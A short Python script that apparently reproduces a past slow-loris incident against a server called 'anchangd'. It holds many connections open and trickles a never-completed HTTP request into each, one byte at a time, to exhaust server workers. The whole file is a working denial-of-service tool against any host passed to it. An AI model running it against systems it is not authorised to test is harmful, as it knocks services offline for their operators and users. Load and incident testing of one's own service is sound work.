#!/usr/bin/env python3
"""Opens N connections to a server and sends each one's request a byte at a time, one byte per
connection every two seconds, reopening a connection the server closed (408): the slow-loris
load that once took every worker of anchangd. Runs until killed."""
import socket
import sys
import time

host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
request = f"GET /api/v1/health HTTP/1.1\r\nHost: {host}\r\nUser-Agent: slow\r\n\r\n".encode()


def connect():
    s = socket.create_connection((host, port))
    s.setblocking(False)
    return [s, 0]


held = [connect() for _ in range(count)]
print(f"trickling into {len(held)} connections", flush=True)
while True:
    for entry in held:
        s, at = entry
        try:
            s.send(request[at:at + 1])
            entry[1] = (at + 1) % (len(request) - 2)  # never the final blank line
        except OSError:
            s.close()
            entry[:] = connect()
    time.sleep(2)
